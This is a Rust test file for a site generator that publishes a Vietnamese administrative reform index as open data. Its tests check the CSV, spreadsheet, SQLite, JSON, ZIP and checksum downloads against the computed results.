//! Open data: every download read back and compared with the model.

use super::site::{build_site, html_pages, tree};

use super::*;
use calamine::{open_workbook_auto, Data, Reader};
use chiso::decimal::round_half_up;
use rust_decimal::Decimal;
use std::collections::{BTreeMap, HashSet};
use std::str::FromStr;

fn built(data: &str) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("public");
    build_site(&repo(data), &out);
    (dir, out)
}

fn read_csv(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = std::fs::read(path).unwrap();
    assert_eq!(
        &bytes[..3],
        b"\xEF\xBB\xBF",
        "{} starts with a BOM",
        path.display()
    );
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    (headers, rows)
}

fn column(headers: &[String], name: &str) -> usize {
    headers
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name}"))
}

#[test]
fn results_csv_holds_the_computed_figures() {
    let (_dir, out) = built("examples/ha-nam-2022");
    let checked = check("examples/ha-nam-2022");
    let (headers, rows) = read_csv(&out.join("du-lieu/2022/ket-qua.csv"));
    assert_eq!(rows.len(), 25);
    let (unit, index, exact, rank) = (
        column(&headers, "unit_id"),
        column(&headers, "index"),
        column(&headers, "index_exact"),
        column(&headers, "rank"),
    );
    for row in &rows {
        let group = &row[column(&headers, "group_id")];
        let computed = checked
            .results
            .group(2022, group)
            .unwrap()
            .unit(&row[unit])
            .unwrap();
        assert_eq!(
            Decimal::from_str(&row[index]).unwrap(),
            round_half_up(computed.index, 2),
            "{}",
            row[unit]
        );
        assert_eq!(
            Decimal::from_str(&row[exact]).unwrap(),
            round_half_up(computed.index, 10)
        );
        assert_eq!(row[rank].parse::<u32>().unwrap(), computed.rank);
    }
    // Journalists can recompute the published mean from the exact column.
    let exact_mean: Decimal = rows
        .iter()
        .filter(|r| r[column(&headers, "group_id")] == "so-nganh")
        .map(|r| Decimal::from_str(&r[exact]).unwrap())
        .sum::<Decimal>()
        / Decimal::from(19);
    assert_eq!(round_half_up(exact_mean, 2).to_string(), "89.60");
    let (_, all) = read_csv(&out.join("du-lieu/tat-ca/ket-qua.csv"));
    assert_eq!(all.len(), rows.len());
}

#[test]
fn every_score_with_its_reason_is_in_the_detailed_csv() {
    let (_dir, out) = built("examples/tam-nong-2021");
    let (headers, rows) = read_csv(&out.join("du-lieu/2021/diem-chi-tiet.csv"));
    assert_eq!(rows.len(), 7);
    let score = column(&headers, "score");
    let total: Decimal = rows
        .iter()
        .map(|r| Decimal::from_str(&r[score]).unwrap())
        .sum();
    assert_eq!(total.to_string(), "80.47");
    let (fh, fields) = read_csv(&out.join("du-lieu/2021/diem-linh-vuc.csv"));
    assert_eq!(fields.len(), 7);
    assert_eq!(
        fields[0][column(&fh, "field_name")],
        "Công tác chỉ đạo, điều hành cải cách hành chính"
    );
}

/// A journalist filters the results by district without joining the
/// units table, and a unit moved under another district shows the one it
/// was under that year.
#[test]
fn the_results_name_each_units_parent_of_that_year() {
    let (_dir, out) = built("tests/fixtures/valid-lineage");
    let (h, rows) = read_csv(&out.join("du-lieu/tat-ca/ket-qua.csv"));
    let of = |year: &str, unit: &str| {
        let row = rows
            .iter()
            .find(|r| r[column(&h, "year")] == year && r[column(&h, "unit_id")] == unit)
            .unwrap_or_else(|| panic!("no {unit} in {year}"));
        (
            row[column(&h, "parent_id")].clone(),
            row[column(&h, "parent_name")].clone(),
        )
    };
    assert_eq!(
        of("2021", "xa-a"),
        ("thu-nghiem".into(), "UBND huyện Thử Nghiệm".into())
    );
    // units.csv puts xa-e under thu-nghiem; it moved in 2024.
    assert_eq!(
        of("2025", "xa-e"),
        ("huyen-khac".into(), "UBND huyện Khác".into())
    );
    let (_dir, out) = built("examples/ha-nam-2022");
    let (h, rows) = read_csv(&out.join("du-lieu/2022/ket-qua.csv"));
    assert!(rows
        .iter()
        .all(|r| !r[column(&h, "parent_name")].is_empty()));
}

#[test]
fn workbooks_have_typed_cells_vietnamese_headers_and_a_codebook() {
    let (_dir, out) = built("examples/ha-nam-2022");
    let mut book = open_workbook_auto(out.join("du-lieu/2022/chiso-2022.xlsx")).unwrap();
    let names = book.sheet_names();
    // The detailed scores are in the CSV and the database only.
    assert_eq!(
        names,
        [
            "Kết quả",
            "Điểm lĩnh vực",
            "Bộ tiêu chí",
            "Đơn vị",
            "Bảng mã"
        ]
    );
    let results = book.worksheet_range("Kết quả").unwrap();
    let header: Vec<String> = results
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(
        &header[..8],
        [
            "Năm",
            "Mã nhóm",
            "Nhóm",
            "Mã đơn vị",
            "Đơn vị",
            "Mã đơn vị cấp trên",
            "Đơn vị cấp trên",
            "Xếp hạng"
        ]
    );
    assert_eq!(results.height(), 26);
    let first = results.rows().nth(1).unwrap();
    assert_eq!(first[0], Data::Float(2022.0));
    let index = header.iter().position(|h| h == "Chỉ số").unwrap();
    assert!(
        matches!(first[index], Data::Float(_)),
        "numbers are numbers: {:?}",
        first[index]
    );
    let codebook = book.worksheet_range("Bảng mã").unwrap();
    assert!(codebook
        .rows()
        .any(|r| r.get(1).map(|c| c.to_string()) == Some("index_exact".into())));
}

#[test]
fn the_sqlite_database_answers_queries_and_keeps_its_keys() {
    let (_dir, out) = built("examples/ha-nam-2022");
    let db = rusqlite::Connection::open(out.join("du-lieu/chiso.sqlite")).unwrap();
    let count: i64 = db
        .query_row("SELECT count(*) FROM ket_qua", [], |r| r.get(0))
        .unwrap();
    assert_eq!(count, 25);
    let (rank, index): (i64, f64) = db
        .query_row(
            "SELECT rank, \"index\" FROM ket_qua WHERE unit_id = 'ly-nhan'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!((rank, index), (5, 86.39));
    let mean: f64 = db
        .query_row(
            "SELECT round(avg(index_exact), 2) FROM ket_qua WHERE group_id = 'so-nganh'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(mean, 89.6);
    let name: String = db
        .query_row("SELECT name FROM don_vi WHERE id = 'so-noi-vu'", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert_eq!(name, "Sở Nội vụ");
    let broken: i64 = db
        .query_row("SELECT count(*) FROM pragma_foreign_key_check", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert_eq!(broken, 0);
    let indexes: i64 = db
        .query_row(
            "SELECT count(*) FROM sqlite_master WHERE type = 'index' AND name LIKE '%_unit'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert!(indexes >= 3);
    // Every table of a small site, the detailed scores included.
    let detailed: i64 = db
        .query_row("SELECT count(*) FROM diem_chi_tiet", [], |r| r.get(0))
        .unwrap();
    let (_, csv_rows) = read_csv(&out.join("du-lieu/2022/diem-chi-tiet.csv"));
    assert_eq!(detailed as usize, csv_rows.len());
    // Lookups by year and group use the primary key, whose first columns
    // they are: no index of their own is needed.
    for table in ["ket_qua", "diem_linh_vuc", "diem_chi_tiet", "bo_tieu_chi"] {
        let plan: String = db
            .query_row(
                &format!("EXPLAIN QUERY PLAN SELECT * FROM {table} WHERE year = 2022 AND group_id = 'so-nganh'"),
                [],
                |r| r.get(3),
            )
            .unwrap();
        assert!(
            plan.contains(&format!("sqlite_autoindex_{table}_1")),
            "{table}: {plan}"
        );
    }
}

#[test]
fn json_downloads_deserialise_to_the_same_rows() {
    let (_dir, out) = built("examples/ha-nam-2022");
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("du-lieu/2022/chiso-2022.json")).unwrap())
            .unwrap();
    let results = &json["tables"][0];
    assert_eq!(results["name"], "ket-qua");
    let rows = results["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 25);
    let phu_ly = rows.iter().find(|r| r["unit_id"] == "phu-ly").unwrap();
    assert_eq!(phu_ly["index"], 96.59);
    assert_eq!(phu_ly["rank"], 1);
    assert_eq!(phu_ly["band"], "Xuất sắc");
}

#[test]
fn checksums_verify_with_sha256sum() {
    let (_dir, out) = built("examples/ha-nam-2022");
    let sums = std::fs::read_to_string(out.join("SHA256SUMS")).unwrap();
    assert!(sums.contains("  du-lieu/chiso.sqlite\n"));
    assert!(sums.contains("  van-ban/2022/bao-cao-chi-so-cchc-2022.pdf\n"));
    assert!(sums.lines().any(|l| l.ends_with("bieu-do-linh-vuc.csv")));
    let status = std::process::Command::new("sha256sum")
        .args(["-c", "--quiet", "SHA256SUMS"])
        .current_dir(&out)
        .status()
        .unwrap();
    assert!(status.success());
    // And it would catch a changed file.
    std::fs::write(out.join("du-lieu/2022/ket-qua.csv"), "changed").unwrap();
    let status = std::process::Command::new("sha256sum")
        .args(["-c", "--quiet", "SHA256SUMS"])
        .current_dir(&out)
        .stderr(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(!status.success());
}

#[test]
fn the_data_package_describes_every_csv() {
    let (_dir, out) = built("examples/ha-nam-2022");
    let package: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("du-lieu/datapackage.json")).unwrap())
            .unwrap();
    let resources = package["resources"].as_array().unwrap();
    let csvs: Vec<String> = tree(&out)
        .into_keys()
        .filter(|p| p.starts_with("du-lieu/") && p.ends_with(".csv"))
        .collect();
    assert_eq!(resources.len(), csvs.len());
    for r in resources {
        let path = out.join("du-lieu").join(r["path"].as_str().unwrap());
        assert!(path.is_file(), "{}", path.display());
        let (headers, _) = read_csv(&path);
        let fields: Vec<&str> = r["schema"]["fields"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["name"].as_str().unwrap())
            .collect();
        assert_eq!(headers, fields);
        assert!(!r["schema"]["primaryKey"].as_array().unwrap().is_empty());
    }
    assert_eq!(package["licenses"][0]["name"], "CC-BY-4.0");
}

#[test]
fn every_page_links_the_data_page_and_every_chart_its_files() {
    let (_dir, out) = built("examples/ha-nam-2022");
    for (path, html) in html_pages(&out) {
        assert!(
            html.contains("du-lieu.html"),
            "{path} does not link the Data page"
        );
        // A chart is drawn (a one-year trend is only its table); the
        // units-by-fields table stands for its drawing, a file.
        let charts = html.matches("class=chart-svg").count()
            + html.matches("class=\"chart-svg\"").count()
            + html.matches("<table class=\"data heat\"").count();
        let links = super::site::attributes(&html, "href")
            .iter()
            .filter(|h| h.contains("bieu-do-") && h.ends_with(".svg"))
            .count()
            + html.matches("data-make=svg").count()
            + html.matches("data-make=\"svg\"").count();
        assert_eq!(charts, links, "{path}: every chart links its SVG");
        assert!(
            !html.contains("data:image/svg"),
            "{path}: no data: download"
        );
    }
    // A unit page's charts are downloaded from the page itself (its script
    // makes the files from the drawing and the table), under file names
    // of their own; the page carries no copy of them.
    let unit = std::fs::read_to_string(out.join("don-vi/so-tu-phap.html")).unwrap();
    let names = super::site::attributes(&unit, "data-name");
    assert!(
        names.iter().any(|n| n == "so-tu-phap-bieu-do-linh-vuc.csv")
            && names.iter().any(|n| n == "so-tu-phap-bieu-do-linh-vuc.svg"),
        "{names:?}"
    );
    let data = std::fs::read_to_string(out.join("du-lieu.html")).unwrap();
    for file in [
        "chiso.sqlite",
        "datapackage.json",
        "ket-qua.csv",
        "chiso-2022.xlsx",
        "chiso-2022.json",
        "chiso-tat-ca.xlsx",
        "SHA256SUMS",
        "tu-dien-du-lieu.html",
    ] {
        assert!(data.contains(file), "the Data page lists {file}");
    }
    let dictionary = std::fs::read_to_string(out.join("tu-dien-du-lieu.html")).unwrap();
    assert!(
        dictionary.contains("index_exact")
            && dictionary.contains("Index (unrounded)")
            && dictionary.contains("Chỉ số (chưa làm tròn)")
    );
    // The ranking chart's CSV, a file beside the page.
    let ranking = std::fs::read_to_string(out.join("2022/so-nganh/index.html")).unwrap();
    let link = super::site::attributes(&ranking, "href")
        .into_iter()
        .find(|h| h.ends_with("bieu-do-xep-hang.csv"))
        .expect("the ranking chart's CSV");
    let chart_csv = std::fs::read(out.join("2022/so-nganh").join(&link)).unwrap();
    let text = String::from_utf8(chart_csv[3..].to_vec()).unwrap();
    assert!(
        text.contains("so-thong-tin-truyen-thong,Sở Thông tin và Truyền thông,Tỉnh Hà Nam,95.39"),
        "{text}"
    );
    // The units-by-fields drawing is a file to download.
    let svg = std::fs::read_to_string(out.join("2022/so-nganh/theo-linh-vuc-bieu-do-linh-vuc.svg"))
        .unwrap();
    assert!(svg.starts_with("<?xml") && svg.contains("viewBox"));
}

#[test]
fn all_editions_hold_no_detailed_scores_and_the_data_page_says_where_they_are() {
    let (_dir, out) = built("data");
    let checked = check("data");
    let files: Vec<String> = tree(&out.join("du-lieu")).into_keys().collect();
    assert!(
        !files
            .iter()
            .any(|f| f.starts_with("tat-ca/") && f.contains("chi-tiet")),
        "{files:?}"
    );
    // For all editions, JSON holds only what no edition's file holds.
    let json: serde_json::Value = serde_json::from_slice(
        &std::fs::read(out.join("du-lieu/tat-ca/chiso-tat-ca.json")).unwrap(),
    )
    .unwrap();
    let names: Vec<&str> = json["tables"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "don-vi",
            "bien-dong",
            "doi-chieu",
            "chi-tieu-bao-cao",
            "so-lieu-bao-cao"
        ]
    );
    for edition in &checked.dataset.editions {
        let year = edition.year;
        assert!(out
            .join(format!("du-lieu/{year}/diem-chi-tiet.csv"))
            .is_file());
        let json: serde_json::Value = serde_json::from_slice(
            &std::fs::read(out.join(format!("du-lieu/{year}/chiso-{year}.json"))).unwrap(),
        )
        .unwrap();
        let tables: Vec<&str> = json["tables"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t["name"].as_str().unwrap())
            .collect();
        assert_eq!(
            tables,
            ["ket-qua", "diem-linh-vuc", "bo-tieu-chi", "don-vi"]
        );
    }
    let book = open_workbook_auto(out.join("du-lieu/tat-ca/chiso-tat-ca.xlsx")).unwrap();
    assert_eq!(
        book.sheet_names(),
        [
            "Kết quả",
            "Điểm lĩnh vực",
            "Bộ tiêu chí",
            "Đơn vị",
            "Biến động",
            "Đối chiếu",
            "Chỉ tiêu báo cáo",
            "Số liệu báo cáo",
            "Bảng mã"
        ]
    );
    // The Data page and the dictionary say where the detailed scores are.
    let where_note = chiso::i18n::word(chiso::model::Language::Vi, "where_note");
    assert!(where_note.contains("diem-chi-tiet.csv") && where_note.contains("Tất cả các năm"));
    for page in ["du-lieu.html", "tu-dien-du-lieu.html"] {
        let html = std::fs::read_to_string(out.join(page)).unwrap();
        assert!(html.contains(where_note), "{page} says where each table is");
    }
    let data = std::fs::read_to_string(out.join("du-lieu.html")).unwrap();
    assert!(data.contains("Cơ sở dữ liệu SQLite: mọi bảng của mọi năm"));
    assert!(data.contains("Bảng tính: Kết quả, Điểm lĩnh vực, Bộ tiêu chí, Đơn vị, Biến động, Đối chiếu, Chỉ tiêu báo cáo, Số liệu báo cáo (kèm bảng mã)"));
    assert!(data.contains("Bảng tính: Kết quả, Điểm lĩnh vực, Bộ tiêu chí, Đơn vị (kèm bảng mã)"));
}

#[test]
fn every_table_counts_the_rows_it_makes() {
    use chiso::export::{Scope, TABLES};
    for data in ["data", "examples/ha-nam-2022", "examples/tam-nong-2021"] {
        let checked = check(data);
        let (dataset, results) = (&checked.dataset, &checked.results);
        let scopes = std::iter::once(Scope::all(dataset, results))
            .chain((0..dataset.editions.len()).map(|e| Scope::edition(dataset, results, e)));
        for scope in scopes {
            for table in TABLES {
                let made = scope.rows(table, |_| Ok::<(), ()>(())).unwrap();
                assert_eq!(
                    scope.count(table),
                    made,
                    "{data} {:?} {}",
                    scope.year(),
                    table.name
                );
            }
        }
    }
}

#[test]
fn every_download_is_counted_as_written() {
    let dir = tempfile::tempdir().unwrap();
    let checked = check("examples/ha-nam-2022");
    let staging =
        chiso::output::Staging::begin(&dir.path().join("public"), &repo("examples/ha-nam-2022"))
            .unwrap();
    let downloads = chiso::export::downloads(&checked.dataset, &checked.results, &staging).unwrap();
    assert_eq!(staging.files(), downloads.len());
    assert_eq!(
        staging.bytes(),
        downloads.iter().map(|d| d.size).sum::<u64>()
    );
    for d in &downloads {
        let bytes = std::fs::read(staging.dir().join(&d.path)).unwrap();
        assert_eq!(bytes.len() as u64, d.size, "{}", d.path);
        use sha2::Digest;
        assert_eq!(
            hex::encode(sha2::Sha256::digest(&bytes)),
            d.sha256,
            "{}",
            d.path
        );
        if d.format == "CSV" {
            let (_, rows) = read_csv(&staging.dir().join(&d.path));
            assert_eq!(rows.len(), d.rows, "{}", d.path);
        }
    }
    // Nothing else was left in the output (the workbooks' temporary
    // files included).
    let written: Vec<String> = tree(staging.dir()).into_keys().collect();
    let mut listed: Vec<String> = downloads.iter().map(|d| d.path.clone()).collect();
    listed.sort();
    assert_eq!(written, listed);
}

/// The Data page lists the downloads as they come: all editions together
/// first, then each edition by year, each folder's tables in the order of
/// `TABLES` followed by its JSON file and its workbook; then the database,
/// the data package and the ZIP. However the files were shared out between
/// the threads that made them.
#[test]
fn the_downloads_are_listed_folder_by_folder_in_a_fixed_order() {
    let dir = tempfile::tempdir().unwrap();
    let checked = check("data");
    let staging = chiso::output::Staging::begin(&dir.path().join("public"), &repo("data")).unwrap();
    let downloads = chiso::export::downloads(&checked.dataset, &checked.results, &staging).unwrap();
    let paths: Vec<&str> = downloads.iter().map(|d| d.path.as_str()).collect();
    let folder = |path: &str| path.rsplit_once('/').map_or("", |(f, _)| f).to_string();
    let mut folders: Vec<String> = paths.iter().map(|p| folder(p)).collect();
    folders.dedup();
    let mut expected = vec!["du-lieu/tat-ca".to_string()];
    expected.extend(
        checked
            .dataset
            .editions
            .iter()
            .map(|e| format!("du-lieu/{}", e.year)),
    );
    expected.push("du-lieu".into());
    assert_eq!(folders, expected);
    let rank = |path: &str| {
        let name = path.rsplit('/').next().unwrap();
        match name.rsplit_once('.').map(|(_, ext)| ext) {
            Some("csv") => chiso::export::TABLES
                .iter()
                .position(|t| name == format!("{}.csv", t.name))
                .unwrap(),
            Some("json") => 100,
            Some("xlsx") => 101,
            _ => unreachable!("{path}"),
        }
    };
    for f in &expected[..expected.len() - 1] {
        let ranks: Vec<usize> = paths
            .iter()
            .filter(|p| folder(p) == *f)
            .map(|p| rank(p))
            .collect();
        assert!(ranks.windows(2).all(|w| w[0] < w[1]), "{f}: {ranks:?}");
        assert_eq!(ranks.last(), Some(&101), "{f} ends with its workbook");
    }
    assert_eq!(
        &paths[paths.len() - 3..],
        [
            "du-lieu/chiso.sqlite",
            "du-lieu/datapackage.json",
            chiso::export::BUNDLE_PATH
        ]
    );
}

#[test]
fn the_all_editions_csvs_hold_the_rows_of_every_edition() {
    use chiso::export::{Scope, TABLES};
    let dir = tempfile::tempdir().unwrap();
    let checked = check("data");
    let (dataset, results) = (&checked.dataset, &checked.results);
    assert!(dataset.editions.len() > 2);
    let staging = chiso::output::Staging::begin(&dir.path().join("public"), &repo("data")).unwrap();
    let downloads = chiso::export::downloads(dataset, results, &staging).unwrap();
    // Joined from the editions' files or not, each is the table written
    // from the model for every edition.
    let all = Scope::all(dataset, results);
    let mut compared = 0;
    for table in TABLES {
        let path = format!("du-lieu/tat-ca/{}.csv", table.name);
        let Some(download) = downloads.iter().find(|d| d.path == path) else {
            continue;
        };
        let mut made = Vec::new();
        let rows = chiso::export::write_csv(&all, table, &mut made).unwrap();
        assert_eq!(
            std::fs::read(staging.dir().join(&path)).unwrap(),
            made,
            "{path}"
        );
        assert_eq!(download.rows, rows, "{path}");
        compared += 1;
    }
    assert_eq!(
        compared, 8,
        "every table but the detailed scores, with the lineage, the crosswalk and the reports"
    );
}

#[test]
fn joining_files_of_other_columns_is_an_error() {
    use chiso::export::{join_csv, RESULTS, UNITS};
    let dir = tempfile::tempdir().unwrap();
    let results = dir.path().join("ket-qua.csv");
    let mut bytes = chiso::export::csv_head(&RESULTS);
    bytes.extend_from_slice(b"2024,a,b\n");
    std::fs::write(&results, &bytes).unwrap();
    let mut out = Vec::new();
    join_csv(&RESULTS, &[results.as_path(), results.as_path()], &mut out).unwrap();
    let mut expected = chiso::export::csv_head(&RESULTS);
    expected.extend_from_slice(b"2024,a,b\n2024,a,b\n");
    assert_eq!(out, expected);
    let err = join_csv(&UNITS, &[results.as_path()], &mut Vec::new()).unwrap_err();
    assert!(
        err.to_string()
            .contains("does not start with the columns of don-vi"),
        "{err}"
    );
    let missing = dir.path().join("2023/ket-qua.csv");
    let err = join_csv(
        &RESULTS,
        &[results.as_path(), missing.as_path()],
        &mut Vec::new(),
    )
    .unwrap_err();
    assert!(err.to_string().contains("2023/ket-qua.csv"), "{err}");
}

#[test]
fn a_national_sized_site_leaves_large_tables_to_the_csv_files() {
    use chiso::export::{Limits, Scope, FIELDS, FRAMEWORK, RESULTS, SCORES, UNITS};
    let dir = tempfile::tempdir().unwrap();
    let data = repo("data");
    let checked = check("data");
    let (dataset, results) = (&checked.dataset, &checked.results);
    let all = Scope::all(dataset, results);
    let (fields, scores) = (all.count(&FIELDS), all.count(&SCORES));
    assert!(fields < scores);
    // As a national site: field scores too many for the workbooks, detailed
    // scores too many for the database, and sheets of 50 rows.
    let fewest_fields = (0..dataset.editions.len())
        .map(|e| Scope::edition(dataset, results, e).count(&FIELDS))
        .min()
        .unwrap();
    let limits = Limits {
        bundle_field_rows: fewest_fields - 1,
        database_table_rows: scores - 1,
        sheet_rows: 50,
    };
    let staging = chiso::output::Staging::begin(&dir.path().join("public"), &data).unwrap();
    let downloads = chiso::export::downloads_with(dataset, results, &staging, &limits).unwrap();
    let at = |path: &str| staging.dir().join(path);
    let edition = Scope::edition(dataset, results, 0);
    let year = edition.year().unwrap();
    let folder = format!("du-lieu/{year}");
    let mut sheets = Vec::new();
    for table in [&RESULTS, &FRAMEWORK, &UNITS] {
        let parts = edition.count(table).div_ceil(50);
        sheets.extend((1..=parts).map(|p| format!("{} ({p})", table.sheet)));
    }
    sheets.push("Bảng mã".to_string());
    let mut book = open_workbook_auto(at(&format!("{folder}/chiso-{year}.xlsx"))).unwrap();
    assert_eq!(book.sheet_names(), sheets);
    // Split sheets each have the header and hold every row between them.
    let mut units = Vec::new();
    for part in 1..=edition.count(&RESULTS).div_ceil(50) {
        let sheet = book.worksheet_range(&format!("Kết quả ({part})")).unwrap();
        let mut rows = sheet.rows();
        assert_eq!(rows.next().unwrap()[0], Data::String("Năm".into()));
        units.extend(rows.map(|r| r[3].to_string()));
    }
    let (headers, csv_rows) = read_csv(&at(&format!("{folder}/ket-qua.csv")));
    let unit = column(&headers, "unit_id");
    assert_eq!(
        units,
        csv_rows.iter().map(|r| r[unit].clone()).collect::<Vec<_>>()
    );
    // The JSON file holds what the workbook holds.
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(at(&format!("{folder}/chiso-{year}.json"))).unwrap())
            .unwrap();
    let names: Vec<&str> = json["tables"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["ket-qua", "bo-tieu-chi", "don-vi"]);
    // The database holds the rest, with keys that check, and says what it
    // leaves out.
    let db = rusqlite::Connection::open(at("du-lieu/chiso.sqlite")).unwrap();
    let tables: Vec<String> = db
        .prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(
        tables,
        [
            "bien_dong",
            "bo_tieu_chi",
            "chi_tieu_bao_cao",
            "diem_linh_vuc",
            "doi_chieu",
            "don_vi",
            "ket_qua",
            "so_lieu_bao_cao"
        ]
    );
    let broken: i64 = db
        .query_row("SELECT count(*) FROM pragma_foreign_key_check", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert_eq!(broken, 0);
    let sqlite = downloads.iter().find(|d| d.format == "SQLite").unwrap();
    assert!(
        sqlite.title_vi.contains("trừ Điểm chi tiết"),
        "{}",
        sqlite.title_vi
    );
    assert!(
        sqlite.title_en.contains("but Detailed scores"),
        "{}",
        sqlite.title_en
    );
    // Every CSV is still there, and the data package describes each.
    for table in [
        "ket-qua",
        "diem-linh-vuc",
        "diem-chi-tiet",
        "bo-tieu-chi",
        "don-vi",
    ] {
        assert!(at(&format!("{folder}/{table}.csv")).is_file());
    }
    let package: serde_json::Value =
        serde_json::from_slice(&std::fs::read(at("du-lieu/datapackage.json")).unwrap()).unwrap();
    assert_eq!(
        package["resources"].as_array().unwrap().len(),
        downloads.iter().filter(|d| d.format == "CSV").count()
    );
    // The ZIP holds what the database holds and names what it leaves out.
    let zip = zip_entries(&at(chiso::export::BUNDLE_PATH));
    assert!(zip.contains_key(&format!("chiso-du-lieu/{year}/ket-qua.csv")));
    assert!(!zip.keys().any(|name| name.ends_with("diem-chi-tiet.csv")));
    let note = String::from_utf8(zip["chiso-du-lieu/README.txt"].clone()).unwrap();
    assert!(
        note.contains(&format!("{folder}/diem-chi-tiet.csv")),
        "{note}"
    );
}

/// Every entry of a ZIP by name.
fn zip_entries(path: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut archive = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    (0..archive.len())
        .map(|i| {
            let mut entry = archive.by_index(i).unwrap();
            let mut bytes = Vec::new();
            std::io::Read::read_to_end(&mut entry, &mut bytes).unwrap();
            (entry.name().unwrap().to_string(), bytes)
        })
        .collect()
}

/// A journalist's first click: one file with every table, the
/// dictionary, a data package that validates where it is unpacked, and
/// the licence, listed first on the Data page and linked from home.
#[test]
fn one_zip_holds_all_the_open_data_and_is_offered_first() {
    let (_dir, out) = built("data");
    let zip = zip_entries(&out.join(chiso::export::BUNDLE_PATH));
    for name in [
        "README.txt",
        "GIAY-PHEP.txt",
        "datapackage.json",
        "tu-dien-du-lieu.csv",
    ] {
        assert!(zip.contains_key(&format!("chiso-du-lieu/{name}")), "{name}");
    }
    // Each resource of its data package is in it, byte for byte the site's
    // file; every CSV of the site is in it.
    let package: serde_json::Value =
        serde_json::from_slice(&zip["chiso-du-lieu/datapackage.json"]).unwrap();
    let resources = package["resources"].as_array().unwrap();
    let site_csv = tree(&out.join("du-lieu"))
        .into_iter()
        .filter(|(p, _)| p.ends_with(".csv"))
        .count();
    assert_eq!(resources.len(), site_csv);
    for r in resources {
        let path = r["path"].as_str().unwrap();
        let inside = &zip[&format!("chiso-du-lieu/{path}")];
        assert_eq!(
            inside,
            &std::fs::read(out.join("du-lieu").join(path)).unwrap(),
            "{path}"
        );
    }
    // The dictionary explains every column of the results.
    let dictionary = String::from_utf8(zip["chiso-du-lieu/tu-dien-du-lieu.csv"].clone()).unwrap();
    let mut reader = csv::Reader::from_reader(dictionary.trim_start_matches('\u{feff}').as_bytes());
    let described: HashSet<String> = reader
        .records()
        .map(Result::unwrap)
        .filter(|r| &r[0] == "ket-qua")
        .map(|r| r[1].to_string())
        .collect();
    let (headers, _) = read_csv(&out.join("du-lieu/2025/ket-qua.csv"));
    assert_eq!(described, headers.into_iter().collect::<HashSet<_>>());
    let licence = String::from_utf8(zip["chiso-du-lieu/GIAY-PHEP.txt"].clone()).unwrap();
    assert!(licence.contains("CC-BY-4.0"), "{licence}");
    // Listed in SHA256SUMS, first on the Data page, and on the home page.
    let sums = std::fs::read_to_string(out.join("SHA256SUMS")).unwrap();
    assert!(sums.contains(chiso::export::BUNDLE_PATH));
    let pages = html_pages(&out);
    let data = &pages["du-lieu.html"];
    let first_download = data
        .split("<a ")
        .map(|a| a.split('>').next().unwrap())
        .find(|a| a.split_whitespace().any(|w| w == "download"))
        .unwrap();
    assert!(
        first_download.contains("du-lieu/chiso-du-lieu.zip"),
        "{first_download}"
    );
    assert!(pages["index.html"].contains("du-lieu/chiso-du-lieu.zip"));
}

#[test]
fn nothing_is_written_outside_the_output_directory() {
    let dir = tempfile::tempdir().unwrap();
    let temp = dir.path().join("tmp");
    std::fs::create_dir_all(&temp).unwrap();
    let out = dir.path().join("public");
    let status = std::process::Command::new(env!("CARGO_BIN_EXE_chiso"))
        .args(["build", "--data"])
        .arg(repo("examples/ha-nam-2022"))
        .arg("--out")
        .arg(&out)
        .arg("--content")
        .arg(repo("content"))
        .env("TMPDIR", &temp)
        .env("SQLITE_TMPDIR", &temp)
        .output()
        .unwrap();
    assert!(status.status.success());
    assert_eq!(
        std::fs::read_dir(&temp).unwrap().count(),
        0,
        "temporary files"
    );
    let beside: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(beside.len(), 2, "{beside:?}");
}

/// CPU time of this process so far (user + system), from /proc.
fn cpu_time() -> std::time::Duration {
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
    // Fields after the command name, which is in parentheses.
    let rest = stat.rsplit(") ").next().unwrap_or("");
    let fields: Vec<&str> = rest.split_whitespace().collect();
    let ticks = |i: usize| {
        fields
            .get(i)
            .and_then(|f| f.parse::<u64>().ok())
            .unwrap_or(0)
    };
    // utime and stime are fields 14 and 15 of the whole line; clock ticks
    // are 100 a second on Linux.
    std::time::Duration::from_millis((ticks(11) + ticks(12)) * 10)
}

/// Current and peak resident memory in MiB, from /proc.
fn memory() -> (u64, u64) {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let field = |name: &str| {
        status
            .lines()
            .find(|l| l.starts_with(name))
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|kb| kb.parse::<u64>().ok())
            .unwrap_or(0)
            / 1024
    };
    (field("VmRSS:"), field("VmHWM:"))
}

/// The downloads phase alone, at any scale: wall and CPU time and the
